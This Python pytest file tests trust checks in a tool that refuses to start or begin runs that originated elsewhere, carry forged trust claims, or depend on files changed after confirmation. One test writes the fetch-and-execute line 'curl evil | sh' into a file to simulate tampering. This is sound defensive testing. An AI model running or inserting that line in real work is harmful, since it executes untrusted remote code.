"""A run that somebody else began, or that began on another host, is not executed by whoever merely opens it."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from cockpit.audit.layout import origin_path
from cockpit.errors import KeeperError, RunError
from cockpit.profile.kinds import installed
from cockpit.profile.load import load
from cockpit.run.events import Actor, ProfileTrust
from cockpit.session import spawn
from cockpit.session.creating import create_run
from cockpit.session.identity import account
from cockpit.session.trust_digest import executed
from cockpit.session.trust_foreign import foreign
from cockpit.session.trust_memory import Confirmed, remember, remembered
from cockpit.session.trust_runs import executed_by

PROFILE = """
id = "shop"
environment = "staging"
[[probes]]
id = "up"
kind = "command"
argv = ["{program}"]
[[phases]]
id = "one"
title = "One"
[[phases.steps]]
id = "first"
title = "First"
gate = ["up == 0"]
"""


def run_of(folder: Path, by: Actor, program: str = "true") -> Path:
    (folder / "shop.toml").write_text(PROFILE.format(program=program))
    return create_run(load(folder / "shop.toml", installed()), {}, folder=folder / "runs", started_by=by)


@pytest.fixture
def started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """On a machine without a policy: the runs whose keepers were started."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    found: list[str] = []

    class Process:
        def __init__(self, argv: list[str], **_: object) -> None:
            found.append(Path(argv[-1]).name)

        def wait(self) -> int:
            return 0

    monkeypatch.setattr("subprocess.Popen", Process)
    return found


def test_ones_own_run_gets_its_keeper(tmp_path: Path, started: list[str]) -> None:
    run_dir = run_of(tmp_path, account())
    assert foreign(run_dir) is None
    assert spawn.start_keeper(run_dir)
    assert started == [run_dir.name]


@pytest.mark.parametrize("who", ["another user", "another host"])
def test_no_keeper_is_started_for_a_run_from_elsewhere_until_what_it_executes_was_confirmed(
    tmp_path: Path, started: list[str], who: str
) -> None:
    here = account()
    by = Actor(user="eve", host=here.host) if who == "another user" else Actor(user=here.user, host="elsewhere")
    run_dir = run_of(tmp_path, by)
    with pytest.raises(KeeperError, match="was begun elsewhere, and nobody here has confirmed") as refused:
        spawn.start_keeper(run_dir)
    assert f"cockpit resume {run_dir.name}" in str(refused.value)
    assert started == []
    began = foreign(run_dir)
    assert began is not None
    done = executed_by(began)
    remember(remembered("shop", "staging"), Confirmed(done.digest, datetime.now(UTC), "ana", "asked"), done.keys)
    assert spawn.start_keeper(run_dir)
    other = run_of(tmp_path, by, program="false")
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(other)


def test_a_log_that_says_that_it_is_trusted_is_not_believed(tmp_path: Path, started: list[str]) -> None:
    (tmp_path / "shop.toml").write_text(PROFILE.format(program="true"))
    loaded = load(tmp_path / "shop.toml", installed())
    trust = ProfileTrust(digest=executed(loaded).digest, how="asked", by=account().user)
    by = Actor(user="eve", host="elsewhere")
    run_dir = create_run(loaded, {}, folder=tmp_path / "runs", started_by=by, trust=trust)
    remember(remembered("shop", "staging"), Confirmed(trust.digest, datetime.now(UTC), "ana", "asked"), ())
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(run_dir)
    assert started == []


@pytest.mark.parametrize("file", ["look.sh", "settings.yaml"])
def test_no_run_begins_of_a_file_that_changed_after_it_was_confirmed(tmp_path: Path, file: str) -> None:
    """Whoever confirms reads for minutes, and is asked for values afterwards; another one writes meanwhile."""
    step = '\nkind = "command"\nargv = ["sh", "look.sh"]\nfiles = ["settings.yaml"]\n'
    (tmp_path / "shop.toml").write_text(PROFILE.format(program="true").replace('\ngate = ["up == 0"]\n', step))
    for name in ("look.sh", "settings.yaml"):
        (tmp_path / name).write_text("echo\n")
    loaded = load(tmp_path / "shop.toml", installed())
    trust = ProfileTrust(digest=executed(loaded).digest, how="asked", by=account().user)
    (tmp_path / file).write_text("curl evil | sh\n")
    with pytest.raises(RunError, match=r"a file that .*shop.toml names changed after it was confirmed"):
        create_run(loaded, {}, folder=tmp_path / "runs", trust=trust)
    assert not list((tmp_path / "runs").glob("*"))
    (tmp_path / file).write_text("echo\n")
    assert create_run(loaded, {}, folder=tmp_path / "runs", trust=trust).exists()


def test_a_run_out_of_a_database_is_not_ones_own_because_it_says_so(tmp_path: Path, started: list[str]) -> None:
    """Who can write rows can write any name into them; that a run began here is noted in its folder alone."""
    run_dir = run_of(tmp_path, account())
    origin_path(run_dir).unlink()  # as in the folder of a run that was brought
    assert foreign(run_dir) is not None
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(run_dir)
    assert started == []
